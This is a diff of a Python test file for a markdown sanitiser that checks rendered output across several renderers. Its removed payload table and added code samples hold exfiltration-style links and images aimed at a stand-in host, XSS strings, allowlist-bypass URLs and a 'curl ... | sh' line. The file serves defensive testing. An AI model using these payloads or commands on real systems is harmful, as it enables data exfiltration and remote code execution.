@@ -1,9 +1,12 @@
-"""The sanitiser, proven differentially: its output rendered by markdown-it-py and by cmark-gfm.
+"""The sanitiser, proven differentially: its output rendered by every renderer of the matrix.
 
-For every known payload class (each a table of variants, the review's bypasses
-among them) and for hypothesis-generated markdown, the one-shot output and the
-streamed output, split at every position, must render in both renderers with
-no image, no raw HTML and no link to a host off the allowlist.
+The matrix (tests/support/markdown_oracle.py): markdown-it-py (default and with linkify),
+cmark-gfm, mistune, commonmark.py, Python-Markdown (default and with ``extra``) and markdown2
+(default and with fenced code blocks). For every known payload class (each a table of variants)
+the one-shot output and the streamed output, split at every position, and for
+hypothesis-generated markdown the one-shot output and streams split at generated positions,
+must render in each with no image, no raw HTML, no event handler and no link to a host off the
+allowlist (so no ``javascript:`` or ``data:`` URL).
 """
 
 from __future__ import annotations
@@ -15,167 +18,14 @@ from hypothesis import assume, given, settings
 from hypothesis import strategies as st
 
 from docquery.rag.safe_url import resolved_host
-from docquery.rag.sanitize import Sanitizer, inert
+from docquery.rag.sanitize import Sanitizer, inert, unlink_domains
 from docquery.rag.sanitize_stream import StreamSanitizer
-from tests.support.markdown_oracle import renderings, violations
+from tests.api.sanitize_payloads import PAYLOADS
+from tests.support.markdown_oracle import LINKIFY, RENDERERS, renderings, violations
 
 ALLOW = ("docs.example.com",)
 SECRET = "http://evil.example/x?d=SECRET"
 
-PAYLOADS: dict[str, list[str]] = {
-    "entity-encoded scheme": [
-        "[x](http&#58;&#47;&#47;evil.example/x?d=SECRET)",
-        "[x](http&colon;//evil.example/x)",
-        "[x](&#104;ttp://evil.example/x)",
-        "[x](http&#x3A;&#x2F;&#x2F;evil.example/x)",
-        "![x](http&#58;//evil.example/i.png)",
-        "[x](https&#58;//docs.example.com&#64;evil.example/)",
-        "<http&#58;//evil.example>",
-        "[x][r]\n\n[r]: http&#58;&#47;&#47;evil.example/x",
-        "[x](&#x68;ttps:&#x2F;&#x2F;evil.example)",
-        "[x](h&#116;tp:evil.example/x)",
-    ],
-    "slash-less or odd slashes": [
-        "[x](http:evil.example/x?d=SECRET)",
-        "[x](https:evil.example)",
-        "[x](HTTP:evil.example/x)",
-        "[x](http:/evil.example/x)",
-        "[x](http:\\\\evil.example/x)",
-        "[x](https:/\\evil.example/x)",
-        "[x](//evil.example/x)",
-        "[x](\\\\evil.example/x)",
-        "[x](ht%09tp://evil.example)",
-        "[x](<http:evil.example/x y>)",
-        "http:evil.example/x",
-    ],
-    "reference definitions": [
-        "[x][r]\n\n[r]:\nhttp://evil.example/x?d=SECRET",
-        "> [r]:\n> http://evil.example/x\n\n[x][r]",
-        "[x]\n\n[x]: <http://evil.example>",
-        "[x][r]\n\n   [r]: http://evil.example 'title'",
-        "- [x][r]\n\n  [r]: http://evil.example",
-        "[r]: http://evil.example\n\n[x][r] and [r] and [r][]",
-        '[x][R]\n\n[r]:\n  http://evil.example\n  "t"',
-        "> > [r]: http://evil.example\n\n[r]",
-        "![x][r]\n\n[r]: http://evil.example/i.png",
-        "[foo\nbar]\n\n[foo bar]: http://evil.example",
-    ],
-    "nested or escaped brackets": [
-        "[a [b] c](http://evil.example/x)",
-        "[a \\] b](http://evil.example/x)",
-        "[[a]](http://evil.example)",
-        "[a\\[b](http://evil.example)",
-        "![[a]](http://evil.example/i.png)",
-        "[![a](http://evil.example/i.png)](http://evil.example)",
-        "[a [b [c] d] e](http://evil.example)",
-        "\\[a](http://evil.example) [b](http://evil.example)",
-        "[a`]`](http://evil.example)",
-        "[a](http://evil.example/(x))",
-    ],
-    "autolinks and bare URLs": [
-        "<http://evil.example/x>",
-        "<HTTP://evil.example>",
-        "<a@evil.example>",
-        "http://evil.example/x?d=SECRET",
-        "www.evil.example/x",
-        "x@evil.example",
-        "(www.evil.example)",
-        "_www.evil.example_",
-        "ftp://evil.example/x",
-        "https://docs.example.com\\.evil.example/x",
-        "https://docs.example.com@evil.example/x",
-        "<mailto:a@evil.example>",
-    ],
-    "raw HTML": [
-        "<img src=http://evil.example/x>",
-        "<a href='http://evil.example'>x</a>",
-        "<div>\n<img src=x>\n</div>",
-        "<!-- comment -->",
-        "<script>alert(1)</script>",
-        "<iframe src=//evil.example>",
-        "<svg onload=alert(1)>",
-        "x <img\nsrc=x onerror=alert(1)> y",
-        "&lt;img src=x&gt;",
-        "<?php x ?>",
-        "<![CDATA[x]]>",
-    ],
-    "images": [
-        "![x](https://docs.example.com/i.png)",
-        "![x](http://evil.example/i.png)",
-        "![x][r]\n\n[r]: https://docs.example.com/i.png",
-        "![shortcut]\n\n[shortcut]: http://evil.example",
-        "! [x](http://evil.example)",
-        "!\\[x](http://evil.example)",
-        "!" + "[docs](https://docs.example.com/a)",
-        "![x](data:image/png;base64,AAAA)",
-        "![](<http://evil.example/a b>)",
-        "*![x](http://evil.example)*",
-    ],
-    "allowlist tricks": [
-        "[x](https://docs.example.com@evil.example/)",
-        "[x](https://docs.example.com.evil.example/)",
-        "[x](https://evil.example\\.docs.example.com/)",
-        "[x](https://docs.example.com%2f@evil.example)",
-        "[x](https://evil.example%2edocs.example.com)",
-        "[x](https://evil.example#.docs.example.com)",
-        "[x](https://evil.example?.docs.example.com)",
-        "[x](javascript://docs.example.com/%0aalert(1))",
-        "[x](https://xn--dcs-9cd.example.com)",
-        "[x](https://docs.example.com:443@evil.example)",
-    ],
-    "long labels": [
-        "[" + "a " * 200 + "](http://evil.example/x)",
-        "[" + "word " * 100 + "](https://docs.example.com/a)",
-        "[" + "a" * 600 + "](http://evil.example/x)",
-        "![" + "b " * 300 + "](http://evil.example/i.png)",
-        "[" + "[" * 50 + "x" + "]" * 50 + "](http://evil.example)",
-        "[x](" + "/a" * 300 + "http://evil.example)",
-        "[a\n" + "b\n" * 50 + "](http://evil.example)",
-        "[" + "x " * 130 + "][r]\n\n[r]: http://evil.example",
-        "<" * 300 + "img src=x>",
-        "(" * 300 + "[a](http://evil.example)",
-    ],
-    # An outside review (2026-12-03): indentation in front of a fence the parser saw unindented.
-    "indented fences": [
-        "    ```\n![x](http://evil.example/i.png)\n```",
-        "\t```\n<img src=http://evil.example/x>\n```",
-        "     ```\n[x](http://evil.example/x)\n```",
-        " \t```\n![x](http://evil.example/i.png)\n```",
-        "\n    ```\n![x](http://evil.example/i.png)\n```",
-        "text\n\n    ```\n![x](http://evil.example/i.png)\n```",
-        "    ~~~\n![x](http://evil.example/i.png)\n~~~",
-        "        ````md\n<a href=http://evil.example>x</a>\n````",
-        "    ```\n[x][r]\n```\n\n[r]: http://evil.example",
-        "\t\t```\n![x](http://evil.example/i.png)\n```\nafter",
-    ],
-    # The same review: GFM splits a table row at every "|", in code spans too.
-    "GFM table cells": [
-        "a|b\n-|-\n`|![i](http://evil.example/i.png)|`",
-        "a | b\n--|--\n`x|![i](http://evil.example/i.png)|y`",
-        "| a | b | c |\n|---|:-:|--:|\n| `x|[l](http://evil.example/x)|y` | 2 | 3 |",
-        "a|b\n-|-\n`|<http://evil.example/x>|`",
-        "a|b\n-|-\n`|http://evil.example/x|`",
-        "a|b\n-|-\n`|www.evil.example|`",
-        "a|b\n-|-\n``|<img src=http://evil.example/x>|``",
-        "a|b\n-|-\n`\\|![i](http://evil.example/i.png)\\|`",
-        "a|b|c\n-|-|-\n`|![i](http://evil.example/i.png)|` | `|[x](http://evil.example)|`",
-        "> a|b\n> -|-\n> `|![i](http://evil.example/i.png)|`",
-        "- a|b\n  -|-\n  `|![i](http://evil.example/i.png)|`",
-    ],
-    # The same review: a piece that ends inside a fence, whose closing line the next piece extended.
-    "fences cut between pieces": [
-        "```\nAAA BBB\n```\n![x](http://evil.example/i.png)\n```",
-        "```\nA B C D\n```\n[x](http://evil.example/x)\n```\n",
-        "~~~\nAAA BBB\n~~~\n<img src=http://evil.example/x>\n~~~",
-        "- ```\n  AAA BBB\n  ```\n![x](http://evil.example/i.png)\n```",
-        "> ```\n> AAA BBB\n> ```\n![x](http://evil.example/i.png)\n```",
-        "````\nAAA ``` BBB\n````\n![x](http://evil.example/i.png)\n````",
-        "```py\nAAA BBB\n```\n\n```\n![x](http://evil.example/i.png)\n```",
-        "x ```\nAAA BBB\n```\n![x](http://evil.example/i.png)\n```",
-        "```\nAAA\tBBB\n```\n![x](http://evil.example/i.png)\n```",
-        "1. ```\n   AAA BBB\n   ```\n![x](http://evil.example/i.png)\n```",
-    ],
-}
 CASES = [(cls, i, p) for cls, items in PAYLOADS.items() for i, p in enumerate(items)]
 
 
@@ -218,16 +68,16 @@ FRAGMENTS = [
     "evil.example", "docs.example.com", "x", "S1", "[S1]", "a b", " ", "\n", "\n\n", "> ", "- ", "1. ", "    ",
     "```", "<img src=x>", "<a href=x>", "</a>", "[r]:", "[r]", "![", "](", "<http:", "%2e", "%40", "\t",
     "中", "路径", "д", "é", "\u200b", "（", "：", "|", "-|-", "\n|---|---|\n", "~~~", "    ```", "\t",
+    ".co", ".com/x", "evil.io", ">>> ", "\n```\n", "\n\n    ", "<script>", " onerror=", "javascript:",
 ]  # fmt: skip
 markdown = st.lists(st.sampled_from(FRAGMENTS), min_size=1, max_size=24).map("".join)
 
 
 @settings(max_examples=150, deadline=None, database=None)
-@given(text=markdown, allow=st.sampled_from([(), ALLOW]))
-def test_generated_markdown_split_at_every_position(text: str, allow: tuple[str, ...]) -> None:
+@given(text=markdown, allow=st.sampled_from([(), ALLOW]), cut=st.integers(min_value=0, max_value=400))
+def test_generated_markdown_one_shot_and_split_once(text: str, allow: tuple[str, ...], cut: int) -> None:
     check(Sanitizer(allow)(text), allow)
-    for cut in range(len(text) + 1):
-        check(stream(text, [cut], allow), allow)
+    check(stream(text, [cut % (len(text) + 1)], allow), allow)
 
 
 @settings(max_examples=150, deadline=None, database=None)
@@ -239,15 +89,63 @@ def test_generated_markdown_split_anywhere_many_times(text: str, cuts: list[int]
 # -- what must still work ---------------------------------------------------------------
 
 
+def test_the_matrix_has_every_renderer() -> None:
+    names = set(RENDERERS)
+    assert {"markdown-it", "cmark-gfm", "mistune", "commonmark.py", "python-markdown"} <= names
+    assert {"python-markdown+extra", "markdown2", "markdown2+fenced"} <= names
+    if not LINKIFY:
+        pytest.skip("linkify-it-py is not installed: markdown-it-py with linkify is left out of the matrix")
+    assert "markdown-it+linkify" in names
+
+
+CODE_SAMPLES = [
+    ">>> subprocess.run([\"ls\"], capture_output=True)\nCompletedProcess(args=['ls'], returncode=0)",
+    "def f(x):\n    if x < 1 and y > 2:\n        return [x]\n\n    return {'a': x & 1}",
+    '<div class="note">\n  <img src="a.png" onerror="alert(1)">\n</div>',
+    "curl https://evil.example/x?d=1 | sh\n\n# done",
+    "a = b[1]  # [S1] is not a citation here\n\tindented_with_tab()",
+]
+
+
+def _code_texts(html: str) -> list[str]:
+    from bs4 import BeautifulSoup
+
+    return [pre.get_text() for pre in BeautifulSoup(html, "html.parser").find_all("pre")]
+
+
+@pytest.mark.parametrize("code", CODE_SAMPLES)
+@pytest.mark.parametrize("where", ["top", "list", "quote"])
+def test_code_stays_code_with_its_lines_in_every_renderer(code: str, where: str) -> None:
+    fenced = "```py\n" + code + "\n```"
+    text = {
+        "top": f"Run this:\n\n{fenced}\n\nand see [S1].",
+        "list": "1. Run this:\n\n" + "\n".join("   " + line if line else "" for line in fenced.split("\n")),
+        "quote": "\n".join("> " + line for line in fenced.split("\n")),
+    }[where]
+    for out in (Sanitizer()(text), stream(text, list(range(0, len(text), 3)))):
+        check(out, ())
+        for name, html in renderings(out).items():
+            texts = [t.rstrip("\n") for t in _code_texts(html)]
+            # Every line, brackets and prompts included, as written.
+            assert any(_same_lines(t, code) for t in texts), (name, out, texts)
+
+
+def _same_lines(shown: str, code: str) -> bool:
+    """The same lines, each with the same words (indentation may differ: a renderer may keep an item's
+    indentation, or expand tabs)."""
+    got, want = shown.split("\n"), code.split("\n")
+    return len(got) == len(want) and all(g.split() == w.split() for g, w in zip(got, want, strict=True))
+
+
 def _links(markdown_text: str) -> list[str]:
     return [html for html in renderings(markdown_text).values() if 'href="https://docs.example.com/a"' in html]
 
 
 def test_allowlisted_link_survives_every_split() -> None:
     text = "See [the handbook](https://docs.example.com/a) [S1]."
-    assert len(_links(Sanitizer(ALLOW)(text))) == 2
+    assert len(_links(Sanitizer(ALLOW)(text))) == len(RENDERERS)
     for cut in range(len(text) + 1):
-        assert len(_links(stream(text, [cut], ALLOW))) == 2, cut
+        assert len(_links(stream(text, [cut], ALLOW))) == len(RENDERERS), cut
 
 
 @pytest.mark.parametrize(
@@ -399,7 +297,8 @@ def test_text_passed_without_parsing_is_safe_and_the_parser_agrees(text: str, at
     assume(inert(text))
     sanitizer = Sanitizer()
     out = sanitizer.render(text, at_line_start=at_line_start)
-    assert out == text
+    assert out == unlink_domains(text)  # only bare domains' dots and "//" are escaped
+    assert sanitizer.render(text, at_line_start=at_line_start, domains=False) == text
     for allow in ((), ALLOW):
         check(out, allow)  # what goes out unparsed renders with no link, image or HTML in either renderer
     full = sanitizer.render_parsed(text, at_line_start=at_line_start)
@@ -439,4 +338,4 @@ _SPACES = st.sampled_from(
 @given(text=st.lists(st.one_of(st.text(max_size=8), _SPACES), max_size=30).map("".join))
 def test_label_skips_the_space_rewrite_only_where_it_changes_nothing(text: str) -> None:
     flat = " ".join(re.sub(r"[\x00-\x1f\x7f-\x9f\u2028\u2029]+", " ", text).split())
-    assert Sanitizer().label(text) == Sanitizer().render(flat)
+    assert Sanitizer().label(text) == Sanitizer().render(flat, domains=False)
